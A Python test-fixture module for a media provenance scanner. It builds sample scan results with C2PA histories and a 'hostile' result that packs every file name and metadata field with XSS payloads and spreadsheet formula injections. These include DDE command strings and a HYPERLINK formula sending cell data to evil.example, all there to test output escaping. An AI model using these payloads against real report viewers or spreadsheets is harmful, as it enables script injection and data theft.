"""ScanResults for the report tests, built from the model's own dataclasses.

`sample_result()` is a small delivery with one asset of every status and a C2PA history with
an ingredient tree; `hostile_result()` puts markup, script URLs and spreadsheet formulas into
every string a media file controls (file names and metadata values).
"""

from __future__ import annotations

import base64
import hashlib
import io

from PIL import Image

from scanner.model import (
    ApprovalMatch,
    ArchivalCheck,
    Assessment,
    AssetAnalysis,
    AssetResult,
    C2paAction,
    C2paIngredient,
    C2paManifest,
    C2paReport,
    Evidence,
    Finding,
    FrameHash,
    Problem,
    Reason,
    ScanResult,
    Signal,
    Skipped,
    ToolInfo,
)

TOOL = ToolInfo("provscan", "0.1.0", "2026.11-test", "c2pa-rs/0.91.3")
DST = "http://cv.iptc.org/newscodes/digitalsourcetype/"


def jpeg_thumbnail(color: tuple[int, int, int], size: tuple[int, int] = (160, 90)) -> str:
    buffer = io.BytesIO()
    Image.new("RGB", size, color).save(buffer, "JPEG", quality=70)
    return "data:image/jpeg;base64," + base64.b64encode(buffer.getvalue()).decode("ascii")


def _asset(
    path: str,
    *,
    status: str = "clean",
    ai: str = "none",
    credentials: str = "absent",
    generators: tuple[str, ...] = (),
    signals: tuple[Signal, ...] = (),
    reasons: tuple[Reason, ...] = (),
    approval: str = "",
    matches: tuple[ApprovalMatch, ...] = (),
    evidence: tuple[Evidence, ...] = (),
    c2pa: C2paReport | None = None,
    problems: tuple[Problem, ...] = (),
    notes: tuple[str, ...] = (),
    thumbnail: str = "",
    area: str = "final",
    archival: ArchivalCheck | None = None,
    kind: str = "image",
    fmt: str = "JPEG",
    media_type: str = "image/jpeg",
    size: int = 120_000,
) -> AssetResult:
    digest = hashlib.sha256(path.encode("utf-8", "surrogatepass")).hexdigest()
    return AssetResult(
        analysis=AssetAnalysis(
            path=path,
            size=size,
            sha256=digest,
            media_type=media_type,
            kind=kind,
            format=fmt,
            assessment=Assessment(
                ai=ai, credentials=credentials, generators=generators, signals=signals
            ),
            evidence=evidence,
            c2pa=c2pa,
            fingerprints=(FrameHash(0.0, "8f373714acfcf4d0", "0f0f0f0f0f0f0f0f"),),
            thumbnail=thumbnail,
            problems=problems,
            notes=notes,
        ),
        finding=Finding(
            status=status,
            reasons=reasons,
            approval=approval,
            matches=matches,
            area=area,
            archival=archival,
        ),
    )


def firefly_c2pa() -> C2paReport:
    """An AI still whose history is: a photo (own manifest) -> generative fill -> export."""
    photo = C2paManifest(
        label="urn:c2pa:photo-0001",
        title="A001_C003.jpg",
        claim_generator="Nikon Z 9",
        signer_name="NIKON CORPORATION",
        signer_issuer="Nikon Test CA",
        signed_at="2026-09-01T10:00:00+00:00",
        actions=(C2paAction("c2pa.created", DST + "digitalCapture", "Nikon Z 9 firmware 5.0"),),
    )
    fill = C2paManifest(
        label="urn:c2pa:fill-0002",
        title="sh010_fill.psd",
        claim_generator="Adobe Photoshop 27.0",
        signer_name="Adobe Inc.",
        signer_issuer="Adobe Test CA",
        signed_at="2026-09-02T10:00:00+00:00",
        actions=(
            C2paAction("c2pa.opened", software_agent="Adobe Photoshop 27.0"),
            C2paAction(
                "c2pa.edited",
                DST + "compositeWithTrainedAlgorithmicMedia",
                "Adobe Firefly",
                description="Generative Fill",
            ),
        ),
        ingredients=(
            C2paIngredient("A001_C003.jpg", "parentOf", "image/jpeg", "xmp:iid:1", photo.label),
        ),
    )
    final = C2paManifest(
        label="urn:c2pa:final-0003",
        title="sh010_still.jpg",
        instance_id="xmp:iid:3",
        claim_generator="Adobe Photoshop 27.0",
        signer_name="Adobe Inc.",
        signer_issuer="Adobe Test CA",
        signed_at="2026-09-03T10:00:00+00:00",
        actions=(
            C2paAction("c2pa.opened", software_agent="Adobe Photoshop 27.0"),
            C2paAction("c2pa.resized", software_agent="Adobe Photoshop 27.0"),
        ),
        ingredients=(
            C2paIngredient(
                "sh010_fill.psd", "parentOf", "image/vnd.adobe.photoshop", "", fill.label
            ),
            C2paIngredient("logo.png", "componentOf", "image/png"),
        ),
        assertion_labels=("c2pa.actions.v2", "c2pa.hash.data", "c2pa.ingredient.v3"),
    )
    return C2paReport(
        credentials="valid",
        state="Valid",
        active_manifest=final.label,
        manifests=(final, fill, photo),
        informational_codes=("signingCredential.untrusted",),
    )


def sample_result() -> ScanResult:
    fill_signal = Signal(
        "c2pa.dst.composite-trained",
        "ai-composite",
        "definitive",
        "c2pa",
        "c2pa.actions.v2/digitalSourceType",
        DST + "compositeWithTrainedAlgorithmicMedia",
        "Adobe Firefly",
        "generative fill recorded in the C2PA history",
    )
    sd_signal = Signal(
        "png.parameters.a1111",
        "ai-generated",
        "definitive",
        "png-text",
        "parameters",
        "a castle at dawn, Steps: 30, Sampler: Euler a",
        "Stable Diffusion (AUTOMATIC1111)",
    )
    assets = (
        _asset(
            "stills/sh010_still.jpg",
            status="violation",
            ai="composite",
            credentials="valid",
            generators=("Adobe Firefly",),
            signals=(fill_signal,),
            reasons=(Reason("unapproved-ai", "no approval covers this asset"),),
            evidence=(Evidence("c2pa", "claim_generator", "Adobe Photoshop 27.0"),),
            c2pa=firefly_c2pa(),
            thumbnail=jpeg_thumbnail((200, 60, 60)),
        ),
        _asset(
            "vfx/sh020/sh020_bg_v002.png",
            status="approved",
            ai="generated",
            generators=("Stable Diffusion (AUTOMATIC1111)",),
            signals=(sd_signal,),
            reasons=(Reason("approved", "GENAI-0042 covers it"),),
            approval="GENAI-0042",
            matches=(ApprovalMatch("GENAI-0042", "sha256", "exact file hash"),),
            evidence=(Evidence("png-text", "parameters", sd_signal.value),),
            thumbnail=jpeg_thumbnail((60, 90, 200)),
            fmt="PNG",
            media_type="image/png",
        ),
        _asset(
            "temp/previs_sh030.mp4",
            status="violation",
            ai="generated",
            generators=("Runway",),
            signals=(
                Signal(
                    "container.encoder.runway",
                    "ai-generated",
                    "strong",
                    "container",
                    "encoder",
                    "Runway Gen-4",
                    "Runway",
                ),
            ),
            reasons=(
                Reason("temporary-in-final", "approval GENAI-0007 is temporary"),
                Reason("approval-expired", "GENAI-0007 expired 2026-10-01"),
            ),
            approval="GENAI-0007",
            matches=(ApprovalMatch("GENAI-0007", "path", "temp/*"),),
            kind="video",
            fmt="MP4",
            media_type="video/mp4",
            size=48_000_000,
            thumbnail=jpeg_thumbnail((30, 30, 30)),
        ),
        _asset(
            "stills/screen_grab.png",
            status="review",
            ai="none",
            credentials="valid",
            signals=(
                Signal(
                    "xmp.dst.screen-capture",
                    "ai-possible",
                    "weak",
                    "xmp",
                    "Iptc4xmpExt:DigitalSourceType",
                    DST + "screenCapture",
                ),
            ),
            reasons=(Reason("possible-ai", "screen capture: what was on screen is unknown"),),
            fmt="PNG",
            media_type="image/png",
        ),
        _asset(
            "stills/tampered.jpg",
            status="review",
            ai="none",
            credentials="invalid",
            reasons=(Reason("credentials-invalid", "assertion.dataHash.mismatch"),),
            c2pa=C2paReport(
                credentials="invalid",
                state="Invalid",
                active_manifest="urn:c2pa:x",
                manifests=(
                    C2paManifest(
                        "urn:c2pa:x",
                        title="tampered.jpg",
                        claim_generator="make_test_images/0.33.1",
                        actions=(C2paAction("c2pa.color_adjustments"),),
                    ),
                ),
                failure_codes=("assertion.dataHash.mismatch",),
            ),
        ),
        _asset(
            "plates/A001_C003.mov",
            status="clean",
            kind="video",
            fmt="MOV",
            media_type="video/quicktime",
            size=2_400_000_000,
            thumbnail=jpeg_thumbnail((90, 140, 90)),
        ),
        _asset(
            "audio/temp_score.wav",
            status="clean",
            kind="audio",
            fmt="WAV",
            media_type="audio/wav",
        ),
        _asset(
            "archival/1969_launch.jpg",
            status="clean",
            area="archival",
            archival=ArchivalCheck("verified", "scans/launch_0042.tif", 2),
        ),
        _asset(
            "broken/truncated.jpg",
            status="error",
            reasons=(Reason("unreadable", "JPEG ends inside a segment"),),
            problems=(Problem("walk", "JPEG ends inside a segment", fatal=True),),
            size=512,
        ),
    )
    return ScanResult(
        delivery="/deliveries/ep101",
        scanned_at="2026-11-02T09:30:00+00:00",
        tool=TOOL,
        assets=assets,
        skipped=(Skipped("notes.txt", "not media"), Skipped(".DS_Store", "hidden file")),
        unused_approvals=("GENAI-0099",),
        register="register.csv",
        policy="built-in",
        as_of="2026-11-01",
    )


# ---- hostile strings: what an attacker would put into names and metadata ----

XSS_FLAG = "__provscanPwned"
SCRIPT_TAG = f"<script>window.{XSS_FLAG}=1;alert(1)</script>"
IMG_ONERROR = f'<img src=x onerror="window.{XSS_FLAG}=2;alert(2)">'
JS_URL = f"javascript:window.{XSS_FLAG}=3;alert(3)"
BREAKOUT = f"</script><script>window.{XSS_FLAG}=4</script><!--"
FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
)
HOSTILE_TEXTS = (SCRIPT_TAG, IMG_ONERROR, JS_URL, BREAKOUT, *FORMULAS)


def hostile_result() -> ScanResult:
    """Every text a file controls, holding markup, script URLs or spreadsheet formulas."""
    assets = []
    for n, text in enumerate(HOSTILE_TEXTS):
        name = text.replace("/", "\u2215")  # a file name cannot hold a slash
        manifest = C2paManifest(
            label=f"urn:c2pa:{text}",
            title=text,
            claim_generator=text,
            signer_name=text,
            signer_issuer=JS_URL,
            actions=(
                C2paAction("c2pa.created", DST + "trainedAlgorithmicMedia", text, text, text),
            ),
            ingredients=(
                C2paIngredient(text, "parentOf", text, text, f"urn:c2pa:{text}", (text,)),
            ),
        )
        assets.append(
            _asset(
                f"{name}/{name}.png",
                status=("violation", "review", "clean", "error")[n % 4],
                ai="generated",
                credentials="valid",
                generators=(text,),
                signals=(
                    Signal("png.parameters", "ai-generated", "strong", "png-text", text, text),
                ),
                reasons=(Reason(text, text),),
                approval=text,
                matches=(ApprovalMatch(text, text, text),),
                evidence=(
                    Evidence("png-text", "parameters", text),
                    Evidence("xmp", "dc:description", text),
                    Evidence("exif", "Artist", text),
                ),
                c2pa=C2paReport(
                    credentials="valid",
                    active_manifest=manifest.label,
                    manifests=(manifest,),
                    failure_codes=(text,),
                    remote_url=JS_URL,
                    error=text,
                ),
                problems=(Problem(text, text),),
                notes=(text,),
                thumbnail=f"data:image/svg+xml;base64,{text}" if n % 2 else JS_URL,
                archival=ArchivalCheck(text, text, 1),
                fmt=text,
                media_type=text,
            )
        )
    return ScanResult(
        delivery=f"/deliveries/{SCRIPT_TAG}",
        scanned_at=IMG_ONERROR,
        tool=ToolInfo(SCRIPT_TAG, JS_URL, BREAKOUT, IMG_ONERROR),
        assets=tuple(assets),
        skipped=(Skipped(SCRIPT_TAG, IMG_ONERROR),),
        unused_approvals=(SCRIPT_TAG, FORMULAS[0]),
        register=BREAKOUT,
        policy=JS_URL,
        as_of=SCRIPT_TAG,
    )
